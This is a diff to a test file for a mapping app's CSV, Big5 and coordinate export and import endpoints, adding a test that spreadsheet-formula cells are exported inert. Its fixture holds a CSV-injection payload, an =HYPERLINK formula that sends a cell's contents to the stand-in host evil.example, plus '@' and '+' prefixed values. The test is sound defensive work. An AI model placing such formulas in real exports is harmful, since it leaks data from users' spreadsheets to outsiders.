@@ -2,6 +2,7 @@ import { DOMParser } from '@xmldom/xmldom';
 import iconv from 'iconv-lite';
 import type request from 'supertest';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { csvCell } from '../server/export/spreadsheet-cells.js';
 import { LAYERS } from '../server/layers/registry.js';
 import { postImport } from './support/imports.js';
 import { binary } from './support/mvt.js';
@@ -18,6 +19,8 @@ let w: World;
 let empty: World;
 beforeAll(async () => {
   [w, empty] = await Promise.all([openWorld(), openWorld()]);
+  // Test databases are copies of one template; the empty one stands for another installation.
+  await empty.db.query('UPDATE service_instance SET id = gen_random_uuid()');
   const admin = w.as('admin');
   const post = async (layer: string, geometry: object | null, properties: object) =>
     (await admin.post(`/api/layers/${layer}/features`).send({ type: 'Feature', geometry, properties }).expect(201)).body.id as number;
@@ -29,6 +32,10 @@ beforeAll(async () => {
     name: '鐵皮工寮', address: '府前路 9 號', category: 'iron_sheet_house', listed_on: '2024-05-01', next_visit_due: '2026-06-30',
     indicators: { drug_lab: ['chemical_smell', 'covered_windows'] }, notes: SECRET,
   });
+  // Text a spreadsheet would run as formulas (OWASP "CSV Injection"): exported inert, imported back as written.
+  await post('key-places', pt(120.2066, 22.9936), {
+    name: FORMULA, address: '+886-6-2222222', category: 'vacant_house', notes: '@SUM(1+1)\t-2+3',
+  });
   await post('incidents', pt(120.2071, 22.9921), { type: 'fraud_withdrawal', occurred_at: '2025-11-03T21:15:00+08:00', source: 'cctv', description: SECRET });
   await post('watch-blocks', { type: 'Polygon', coordinates: [[[120.2011, 22.9911], [120.2034, 22.9911], [120.2034, 22.9933], [120.2011, 22.9933], [120.2011, 22.9911]]] },
     { name: '府前社區', adopter: '府前國小', adopter_kind: 'school', contact: SECRET, patrol_hours: '19:00-22:00' });
@@ -37,6 +44,7 @@ beforeAll(async () => {
 afterAll(async () => { await Promise.all([w?.close(), empty?.close()]); });
 
 const SECRET = '秘密聯絡人 0912-345-678';
+const FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"點此")';
 const raw = (t: request.Test) => t.buffer(true).parse(binary);
 const exported = (role: Parameters<World['as']>[0], query: string) => raw(w.as(role).get(`/api/export/${query}`));
 const text = (b: Buffer) => b.toString('utf8');
@@ -49,17 +57,34 @@ describe('formats', () => {
     const body = res.body as Buffer;
     expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     const [header, first] = text(body.subarray(3)).split('\r\n');
-    expect(header).toBe('id,名稱,方位角（度）,水平視角（度）,有效距離（公尺）,設置單位,狀態,車牌辨識,連網,可調整方向,建置年度,公開,聯絡人,警勤區,派出所,分局,經度,緯度');
-    expect(first).toMatch(/^\d+,"府前路, ""東""口",135\.5,70,40,警察機關,正常,是,否,是,2016,是,秘密聯絡人 0912-345-678,B1,S1,P1,120\.2031234,22\.9941234$/);
+    const { rows: [instance] } = await w.db.query<{ id: string }>('SELECT id::text FROM service_instance');
+    expect(header).toBe('id,instance,名稱,方位角（度）,水平視角（度）,有效距離（公尺）,設置單位,狀態,車牌辨識,連網,可調整方向,建置年度,公開,聯絡人,警勤區,派出所,分局,經度,緯度');
+    expect(first!.startsWith(`${first!.split(',')[0]},${instance!.id},`)).toBe(true);
+    expect(first!.replace(`,${instance!.id}`, '')).toMatch(/^\d+,"府前路, ""東""口",135\.5,70,40,警察機關,正常,是,否,是,2016,是,秘密聯絡人 0912-345-678,B1,S1,P1,120\.2031234,22\.9941234$/);
+  });
+
+  it('CSV cells a spreadsheet would run as formulas are written inert: a quote before them, inside double quotes; numbers stay numbers', async () => {
+    for (const variant of ['format=csv', 'format=csv&header=name', 'format=csv&encoding=big5']) {
+      const res = await exported('admin', `key-places?${variant}`).expect(200);
+      const csv = variant.includes('big5') ? iconv.decode(res.body as Buffer, 'cp950') : text((res.body as Buffer).subarray(3));
+      const line = csv.split('\r\n').find((l) => l.includes('HYPERLINK'))!;
+      expect(line, variant).toContain(`"'${FORMULA.replace(/"/g, '""')}"`);
+      expect(line).toContain(`"'+886-6-2222222"`);
+      expect(line).toContain(`"'@SUM(1+1)\t-2+3"`);
+      // No cell of any row begins with a formula character outside that protection.
+      for (const row of csv.split('\r\n')) expect(row, variant).not.toMatch(/(^|,)[=+@\t\r]|(^|,)-[^\d]/);
+    }
+    // Numbers are not formulas, whatever their sign; text that only starts like one is.
+    expect([-3.5, '-3.5', '+12', '1e-3', '-1+1', '-', '@', '\r1', 'a=b'].map(csvCell)).toEqual(['-3.5', '-3.5', '+12', '1e-3', `"'-1+1"`, `"'-"`, `"'@"`, `"'\r1"`, 'a=b']);
   });
 
   it('CSV in Big5 with TWD97 columns that match Snyder\'s projection to a centimetre', async () => {
     const res = await exported('admin', 'cameras?format=csv&encoding=big5&crs=EPSG:3826&header=name').expect(200);
     expect(res.headers['content-type']).toBe('text/csv; charset=big5');
     const lines = iconv.decode(res.body as Buffer, 'cp950').split('\r\n');
-    expect(lines[0]).toMatch(/^id,name,azimuth,.*,TWD97_X,TWD97_Y$/);
+    expect(lines[0]).toMatch(/^id,instance,name,azimuth,.*,TWD97_X,TWD97_Y$/);
     const row = lines.find((l) => l.includes('海安路口'))!.split(',');
-    expect(row.slice(5, 7)).toEqual(['community', 'broken']);
+    expect(row.slice(6, 8)).toEqual(['community', 'broken']);
     const [x, y] = tm2(120.2251, 22.9951);
     expect(Math.abs(Number(row.at(-2)) - x)).toBeLessThan(0.01);
     expect(Math.abs(Number(row.at(-1)) - y)).toBeLessThan(0.01);
@@ -119,9 +144,9 @@ describe('what each caller may take away', () => {
     }
     const publicCameras = JSON.parse(text((await exported('public', 'cameras')).body as Buffer));
     expect(publicCameras.features.map((f: { properties: { name: string } }) => f.properties.name).sort()).toEqual(['府前路, "東"口', '海安路口']);
-    // The community account's area is the south-west quarter of B1: one public camera in it.
+    // A community account takes away what the public may, no more (its area adds no camera).
     const community = JSON.parse(text((await exported('community', 'cameras')).body as Buffer));
-    expect(community.features.map((f: { properties: { name: string } }) => f.properties.name)).toEqual(['府前路, "東"口']);
+    expect(community.features.map((f: { properties: { name: string } }) => f.properties.name).sort()).toEqual(['府前路, "東"口', '海安路口']);
   });
 
   it('gives a planner its precinct only, and notes police exports in the audit log', async () => {
@@ -160,12 +185,13 @@ describe('round trips', () => {
     }
   });
 
-  it('imports every format into an empty database as the same features', async () => {
+  it('imports every format into another instance\'s empty database as the same features, added', async () => {
     for (const layer of LAYERS_TRIPPED) {
       const original = await features(w, layer);
       for (const variant of VARIANTS) {
         const file = (await exported('admin', `${layer}?${variant}`).expect(200)).body as Buffer;
-        const res = await postImport(empty, 'admin', layer, file, { dryRun: true, mapping: { id: null } }).expect(200);
+        // The file's ids are the exporting instance's: here they find nothing and the rows are added.
+        const res = await postImport(empty, 'admin', layer, file, { dryRun: true }).expect(200);
         expect(res.body.counts, `${layer} ${variant}`).toMatchObject({ create: original.length, error: 0 });
         const copies = (res.body.preview.features as Parameters<typeof comparable>[1][]).map((f) => comparable(layer, f));
         for (const [i, copy] of copies.entries()) {
